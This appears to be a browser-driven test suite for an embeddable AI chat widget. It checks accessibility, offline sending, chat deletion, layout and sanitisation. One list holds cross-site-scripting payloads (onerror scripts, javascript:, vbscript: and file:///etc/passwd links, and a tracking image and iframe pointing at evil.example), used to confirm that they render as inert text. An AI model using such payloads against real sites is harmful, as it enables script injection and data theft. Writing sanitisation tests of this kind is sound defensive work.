"""The widget in a real browser, on another website's page that styles and forbids what it can."""

import hmac
import json
import os
import re
from pathlib import Path
from urllib.parse import quote

import pytest
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

import f.channels.command_words as command_words
from local.web_widget import FOLDER, page_route, script, widget_route
from tests.local.browser import PROGRAM, Browser, Tab
from tests.local.web_chat import KEY, SECRET, answered, serving, with_secret, written_by_teammate

pytestmark = pytest.mark.skipif(not PROGRAM, reason="no Chromium here: apt-get install chromium")

SHOP = """<!doctype html><html lang="{lang}" dir="{dir}"><meta charset="utf-8">
<meta name="viewport" content="width=device-width">
<style>* {{ font-size: 31px !important; color: lime !important; }}
div, section, ul {{ display: none }} h1 {{ display: block }}</style>
<h1>A shop</h1><button id="before">Buy</button>
<script src="{src}" data-embed-key="{key}" {more}></script>"""
SENT = "chat.querySelector('.mine') && !chat.querySelector('.mine .state')"
# With PICTURES=folder the tests leave what they saw there.
PICTURES = os.environ.get("PICTURES")


@pytest.fixture(scope="module")
def browser():
    browser = Browser()
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    async def shop(request: Request) -> HTMLResponse:
        port = request.url.port
        src = f"http://127.0.0.1:{port}/widget.js"
        chosen = {"lang": "en", "dir": "ltr", "more": "", "src": src, **request.query_params}
        found = SHOP.format(key=KEY, **chosen)
        policy = (
            f"default-src 'none'; script-src 'self' http://127.0.0.1:{port};"
            f" connect-src http://127.0.0.1:{port}; style-src 'unsafe-inline'"
        )
        return HTMLResponse(found, headers={"content-security-policy": policy})

    async def copy(request: Request) -> Response:
        return Response(script(), media_type="text/javascript")

    routes = [Route("/shop", shop), Route("/copy.js", copy), widget_route(), page_route(KEY)]
    with serving(tmp_path_factory.mktemp("workspace"), routes) as found:
        yield found


@pytest.fixture
def server(served, databases, windmill, query):
    port = served.on(databases).rpartition(":")[2]
    settings = {
        "origins": [f"http://shop.example:{port}", f"http://127.0.0.1:{port}"],
        "privacy_url": "https://shop.example/privacy",
        "greeting": "Hi, I am **Nora**.",
    }
    query("update channels set settings = %s where kind = 'web'", json.dumps(settings))
    return f"http://shop.example:{port}/shop"


@pytest.fixture
def visit(browser, server):
    """visit(query, ...) opens the shop's page in a browser of its own."""
    tabs = []

    def open_tab(query: str = "", is_open: bool = True, **options) -> Tab:
        tab = Tab(browser, f"{server}?{query}", **options)
        tabs.append(tab)
        tab.until("chat && chat.querySelector('.notice').textContent")
        if is_open:
            tab.run("chat.querySelector('.launcher').click()")
        return tab

    yield open_tab
    for tab in tabs:
        tab.close()


def lines(tab) -> list[str]:
    return tab.run("return [...chat.querySelectorAll('.bubble')].map((each) => each.innerText)")


def waits(query) -> str:
    return query("select count(*) from inbound_messages where state = 'waiting'")[0][0]


def picture(tab, name: str) -> None:
    if PICTURES:
        tab.picture(Path(PICTURES) / f"{name}.png")


def test_a_visitor_writes_and_reads_the_answer(visit, query):
    tab = visit()
    tab.say("Do you ship to Malta?")
    tab.until(SENT)
    tab.until("chat.querySelector('.dots')")
    picture(tab, "typing")

    answered(query, "Yes, **within three days**.\n\n- [To Gozo too?](reply:)\n- [Thanks](reply:)")

    tab.until("chat.querySelector('.options')")
    assert lines(tab) == [
        *("Hi, I am Nora.", "Do you ship to Malta?", "Yes, within three days."),
    ]
    picture(tab, "answer")


def test_before_the_first_message_the_visitor_reads_that_it_is_an_ai(visit, query):
    tab = visit()

    notice = tab.run("return chat.querySelector('.notice').textContent")
    privacy = tab.run("return chat.querySelector('.notice a').href")

    assert "AI assistant" in notice and privacy == "https://shop.example/privacy"
    assert query("select count(*) from web_sessions") == [(0,)]
    assert tab.run("return localStorage.length") == 0


def test_an_option_is_sent_by_a_touch_and_then_gone(visit, query):
    tab = visit()
    tab.say("Hello")
    tab.until(SENT)
    answered(query, "What about?\n- [Shipping](reply:)\n- [Returns](reply:)")
    tab.until("chat.querySelector('.options')")

    tab.run("chat.querySelectorAll('.options button')[1].click()")

    tab.until("chat.querySelectorAll('.mine').length === 2")
    assert lines(tab)[-1] == "Returns"
    assert not tab.run("return chat.querySelectorAll('.options').length")


HOSTILE = [
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "[run](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd)",
    "![spy](https://evil.example/?q=secret) <iframe src=//evil.example>",
    '[a](https://ok.example/"onmouseover="alert(1)) [b](vbscript:x) [c](//evil.example)',
]


def test_whatever_is_written_becomes_words_and_never_a_part_of_the_page(visit, query):
    tab = visit()
    tab.run("window.alert = () => { window.wasRun = true }")
    text = "\n\n".join(HOSTILE)
    tab.say(text)
    tab.until(SENT)
    answered(query, text)
    written_by_teammate(query, text)
    tab.until("chat.querySelector('.log').innerText.split('onerror=alert(1)').length === 4")

    made = "img, script, iframe, [onmouseover], [onerror], [style]"
    hrefs = tab.run("return [...chat.querySelectorAll('.bubble a')].map((each) => each.href)")
    assert tab.run(f"return chat.querySelector('.log').querySelectorAll('{made}').length") == 0
    assert hrefs and all(href.startswith("https://") for href in hrefs)
    assert not tab.run("return window.wasRun")


def test_links_tell_the_other_site_nothing_and_cannot_reach_back(visit, query):
    tab = visit()
    tab.say("Hello")
    tab.until(SENT)
    answered(query, "See [the terms](https://shop.example/terms) or https://shop.example/faq.")
    tab.until("chat.querySelectorAll('.bubble a').length === 2")

    links = tab.run(
        "return [...chat.querySelectorAll('.bubble a')].map((a) => [a.href, a.rel, a.target])"
    )

    safe = ["noopener nofollow noreferrer", "_blank"]
    assert links == [["https://shop.example/terms", *safe], ["https://shop.example/faq", *safe]]


def test_it_is_operated_by_keys_alone(visit):
    tab = visit(is_open=False)
    tab.run("document.querySelector('#before').focus()")
    tab.press("Tab")
    assert tab.run("return chat.activeElement.className") == "launcher"
    tab.press("Enter")
    assert tab.run("return chat.activeElement.tagName") == "TEXTAREA"

    seen = set()
    for _ in range(12):
        tab.press("Tab")
        focused = "chat.activeElement?.ariaLabel || chat.activeElement?.tagName || null"
        seen.add(tab.run(f"return {focused}"))
    tab.press("Escape")

    assert None not in seen, "the focus left the open dialog"
    assert {"Send", "Attach a file", "Close the chat", "Your message"} <= seen
    assert tab.run("return chat.activeElement.className") == "launcher"
    assert (
        tab.run("return chat.querySelector('.launcher').getAttribute('aria-expanded')") == "false"
    )


def test_a_screen_reader_is_told_what_is_what(visit, browser):
    tab = visit()
    nodes = tab.call("Accessibility.getFullAXTree")["nodes"]
    told = {
        (node.get("role", {}).get("value"), node.get("name", {}).get("value"))
        for node in nodes
        if not node["ignored"]
    }

    assert {
        ("dialog", "Nora"), ("log", "Conversation"), ("textbox", "Your message"),
        ("button", "Send"), ("button", "Attach a file"), ("button", "Delete this chat"),
    } <= told  # fmt: skip
    unnamed = [role for role, name in told if role in ("button", "textbox", "link") and not name]
    assert unnamed == []


def test_the_pages_own_style_and_policy_do_not_touch_it(visit):
    tab = visit()

    style = "getComputedStyle(chat.querySelector('.bubble'))"

    assert tab.run(f"return {style}.fontSize") == "16px"
    assert tab.run(f"return {style}.color") != "rgb(0, 255, 0)"
    assert tab.run("return chat.querySelector('.panel').getBoundingClientRect().width") == 384


def test_without_a_connection_messages_wait_and_are_sent_once(visit, query):
    tab = visit()
    tab.say("First")
    tab.until(SENT)
    tab.offline(True)
    tab.say("Second")
    tab.until("!chat.querySelector('.banner').hidden")
    tab.until("chat.querySelector('.state')?.textContent === 'Not sent yet'")
    picture(tab, "offline")

    tab.offline(False)
    tab.run("dispatchEvent(new Event('online'))")

    tab.until("!chat.querySelector('.mine .state')")
    assert query("select body from inbound_messages order by id") == [("First",), ("Second",)]
    assert lines(tab)[1:] == ["First", "Second"]


def test_where_streams_are_held_back_it_polls(visit, query):
    tab = visit()
    tab.call("Network.setBlockedURLs", urls=["*/events"])
    tab.say("Hello")
    tab.until(SENT)

    answered(query, "Hi!")

    tab.until("chat.querySelector('.chatbot:nth-last-child(1)')?.innerText.includes('Hi!')")


def test_a_page_that_is_loaded_again_shows_the_conversation_and_sends_what_was_left(visit, query):
    tab = visit()
    tab.say("First")
    tab.until(SENT)
    tab.offline(True)
    tab.say("Second")
    tab.until("chat.querySelectorAll('.mine').length === 2")
    tab.offline(False)

    tab.call("Page.reload")

    tab.until("chat && chat.querySelectorAll('.mine').length === 2")
    tab.until("!chat.querySelector('.mine .state')")
    assert sorted(lines(tab)[1:]) == ["First", "Second"]
    assert query("select count(*) from inbound_messages") == [(2,)]


def test_two_tabs_of_one_visitor_are_one_chat(visit, query):
    first = visit()
    second = visit(beside=first)
    first.say("Do you ship to Malta?")
    first.until(SENT)

    second.say("And to Gozo?")
    second.until(SENT)

    second.until("chat.querySelectorAll('.mine').length === 2")
    first.until("chat.querySelectorAll('.mine').length === 2")
    assert query("select count(*) from contacts") == [(1,)]
    first.call("Page.reload")
    first.until("chat && chat.querySelectorAll('.mine').length === 2")


def test_a_chat_that_was_deleted_in_one_tab_begins_anew_in_the_other(visit, query):
    first = visit()
    first.say("My number is 4111")
    first.until(SENT)
    second = visit(beside=first)
    second.until("chat.querySelectorAll('.mine').length === 1")
    first.run("chat.querySelector('header .icon').click()")
    first.run("chat.querySelector('.danger').click()")
    second.until("chat.querySelector('.log').innerText.includes('new chat begins')")
    assert "4111" not in second.text()

    second.say("Hello")
    second.until(SENT)
    answered(query, "Hi!")

    second.until("chat.querySelector('.chatbot:nth-last-child(1)')?.innerText.includes('Hi!')")
    assert query("select body from inbound_messages") == [("Hello",)]


def test_who_logs_out_leaves_no_chat_behind_for_the_next(visit, query):
    with_secret(query)
    digest = hmac.new(SECRET.encode(), b"visitor:ada", "sha256").hexdigest()
    ada = quote(f'data-identifier="ada" data-identifier-hash="{digest}"')
    tab = visit(f"more={ada}")
    tab.say("My order is 4711")
    tab.until(SENT)

    tab.call("Page.navigate", url=tab.run("return location.href.split('?')[0]"))
    tab.until("chat && chat.querySelector('.notice').textContent && !location.search")

    assert lines(tab) == ["Hi, I am Nora."]
    assert query("select contact_key like 'person:%%' from contacts") == [(True,)]
    tab.run("chat.querySelector('.launcher').click()")
    tab.say("Hello")
    tab.until(SENT)
    assert query("select count(*) from contacts") == [(2,)]


def test_it_says_when_a_teammate_takes_over_and_gives_back(visit, query):
    tab = visit()
    tab.say("A person please")
    tab.until(SENT)
    query("update conversations set mode = 'human'")
    written_by_teammate(query, "Eva here, hello!")
    tab.until("chat.querySelector('.teammate') && chat.querySelector('.event')")

    assert "A person answers" in tab.text() and "from here on" in tab.text()
    picture(tab, "teammate")
    query("update conversations set mode = 'bot'")
    tab.until("chat.querySelector('.panel').innerText.includes('answers again')")


def test_a_closed_chat_counts_what_was_not_read(visit, query):
    tab = visit()
    tab.say("Hello")
    tab.until(SENT)
    tab.press("Escape")
    answered(query, "Hi!")

    tab.until("chat.querySelector('.badge').textContent === '1'")

    assert "1 new" in tab.run("return chat.querySelector('.launcher').ariaLabel")
    picture(tab, "launcher")


def test_a_file_is_sent_and_shown_by_its_name(visit, query, tmp_path):
    path = tmp_path / "receipt.txt"
    path.write_text("Total: 12 EUR")
    tab = visit()
    document = tab.call("DOM.getDocument", depth=-1, pierce=True)
    picker = tab.call(
        "DOM.querySelector", nodeId=shadow_of(document["root"]), selector="input[type=file]"
    )

    tab.call("DOM.setFileInputFiles", files=[str(path)], nodeId=picker["nodeId"])

    tab.until(SENT)
    assert lines(tab)[-1] == "receipt.txt"
    assert query("select media ->> 'media_type' from inbound_messages") == [("text/plain",)]


def shadow_of(node: dict) -> int:
    """The node id of the first shadow root of ours."""
    if "data-chatmill" in node.get("attributes", []):
        return node["shadowRoots"][0]["nodeId"]
    return next(filter(None, map(shadow_of, node.get("children", []))), 0)


def test_a_chat_is_deleted_after_one_question(visit, query):
    tab = visit()
    tab.say("My number is 4111")
    tab.until(SENT)
    tab.run("chat.querySelector('header .icon').click()")
    picture(tab, "delete")

    tab.run("chat.querySelector('.danger').click()")

    tab.until("chat.querySelector('.log').innerText.includes('was deleted')")
    assert "4111" not in tab.text()
    assert query("select count(*) from contacts") == [(0,)]
    assert tab.run("return localStorage.length") == 0


def test_it_speaks_the_pages_language_and_english_where_it_has_no_words(visit):
    assert "KI-Assistenten" in visit("lang=de-AT").text()
    assert "AI assistant" in visit("lang=xx").text()


def test_it_has_every_word_in_every_language_that_commands_have():
    text = (FOLDER / "words.js").read_text()
    languages = re.findall(r"^  (\w\w): \{\n(.*?)^  \},", text, re.S | re.M)
    keys = {code: set(re.findall(r'(\w+): "', block)) for code, block in languages}

    assert set(keys) == set(command_words.WORDS)
    assert all(found == keys["en"] for found in keys.values()) and len(keys["en"]) > 30


LONG = """Here is how returns work:

1. Write to us **within 30 days**.
2. Print the *label*.
3. Bring the parcel to the post office.

| Country | Days |
|---|---|
| Portugal | 2 |
| Malta | 5 |

> Opened coffee can't be returned.

```
RMA-2026-0042
```

More in [our terms](https://shop.example/terms).
- [Where is my parcel?](reply:)
- [Talk to a person](reply:)"""


@pytest.mark.parametrize(
    ("name", "query_string", "options"),
    [
        ("light", "", {}),
        ("dark", "", {"prefers_color_scheme": "dark", "prefers_reduced_motion": "reduce"}),
        ("rtl", "dir=rtl&lang=ar", {}),
        ("phone", "", {"width": 320, "height": 568}),
        (
            "phone_dark_rtl",
            "dir=rtl",
            {"width": 320, "height": 568, "prefers_color_scheme": "dark"},
        ),
    ],
)
def test_it_fits_every_screen_and_both_directions(visit, query, name, query_string, options):
    tab = visit(query_string, **options)
    tab.say("How do I send something back?")
    tab.until(SENT)
    answered(query, LONG)
    tab.until("chat.querySelector('.options')")
    picture(tab, name)

    box = tab.run("return chat.querySelector('.panel').getBoundingClientRect().toJSON()")
    width = tab.run("return innerWidth")
    overflow = tab.run(
        "const log = chat.querySelector('.log'); return log.scrollWidth - log.clientWidth"
    )

    assert 0 <= box["left"] and box["right"] <= width and overflow <= 0
    if "rtl" in name and width > 480:
        assert box["left"] < width / 2, "in writing from right to left it sits at the left"


def test_nothing_moves_for_whom_asked_for_it(visit):
    tab = visit(prefers_reduced_motion="reduce")

    assert tab.run("return chat.getAnimations ? chat.getAnimations().length : 0") == 0


def test_the_installations_own_page_is_the_widget(browser, server):
    tab = Tab(browser, server.replace("shop.example", "127.0.0.1").removesuffix("shop"))
    tab.until("chat && chat.querySelector('.notice').textContent")
    tab.say("Hello")
    tab.until(SENT)
    picture(tab, "own_page")

    assert not tab.run("return chat.querySelector('.launcher')")
    tab.close()


def test_a_copy_of_the_script_on_a_static_host_is_told_where_the_server_is(visit, served, query):
    server = quote(f'data-server="http://{served.address}/"')

    tab = visit(f"src=/copy.js&more={server}")
    tab.say("Hello")
    tab.until(SENT)

    assert query("select body from inbound_messages") == [("Hello",)]


def test_on_a_website_that_is_not_allowed_it_says_so(browser, server, query):
    query("update channels set settings = '{}' where kind = 'web'")
    tab = Tab(browser, server)

    tab.until("chat && !chat.querySelector('.banner').hidden")

    assert "not available" in tab.run("return chat.querySelector('.banner').textContent")
    tab.close()
